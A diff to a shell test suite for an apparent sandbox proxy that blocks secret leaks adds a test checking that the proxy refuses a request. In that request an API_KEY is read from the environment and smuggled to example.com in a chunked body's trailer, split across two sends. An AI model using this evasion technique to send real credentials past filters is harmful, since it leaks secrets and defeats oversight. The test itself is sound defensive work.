@@ -310,10 +310,20 @@ assert_match "$out" "^HTTP/1.1 200" "split across TCP segments, after a first re
 assert_match "$out" "X-Moat-Denied: secret-leak" "... the one with the placeholder refused"
 out=$(pl chunked)
 assert_match "$out" "X-Moat-Denied: secret-leak" "split across two chunks sent apart: refused"
+out=$(insb "python3 - <<'EOF'
+import os, socket, time
+s = socket.create_connection(('example.com', 80), timeout=5)
+ph = os.environ['API_KEY'].encode()
+s.sendall(b'POST /leak23 HTTP/1.1\r\nHost: example.com\r\nTransfer-Encoding: chunked\r\n\r\n2\r\nok\r\n0\r\nX-T: ' + ph[:20])
+time.sleep(0.2)
+s.sendall(ph[20:] + b'\r\n\r\n')
+print(s.recv(4096).decode(errors='replace'))
+EOF")
+assert_match "$out" "X-Moat-Denied: secret-leak" "in a chunked body's trailer, split: refused"
 assert_eq "$(grep 'placeholder arrived' "$WORLD_DIR/srv-inet.log")" "$a0" "no placeholder reached the server"
 assert_eq "$(grep -c '/leak2[01]' "$WORLD_DIR/srv-inet.log")" 0 "... nor the requests whose body was read whole before they went"
-assert_eq "$(icnt leaks_refused_total)" "$((l0 + 4))" "each refusal counted"
-assert_eq "$(nlogs "$SB" '.reason == "secret-leak" and .secret == "API_KEY" and .proto == "http"')" 5 "each logged with the secret's name (and the head's before)"
+assert_eq "$(icnt leaks_refused_total)" "$((l0 + 5))" "each refusal counted"
+assert_eq "$(nlogs "$SB" '.reason == "secret-leak" and .secret == "API_KEY" and .proto == "http"')" 6 "each logged with the secret's name (and the head's before)"
 # the same bodies without a placeholder pass
 assert_match "$(insb "$C --data 'k=hello' http://example.com/fine-body")" "path: /fine-body" "a plain-HTTP body without a placeholder passes (control)"
 assert_match "$(insb "printf 'xx%s' hello | $C -H 'Transfer-Encoding: chunked' --data-binary @- http://example.com/fine-chunked")" "path: /fine-chunked" "... chunked too"
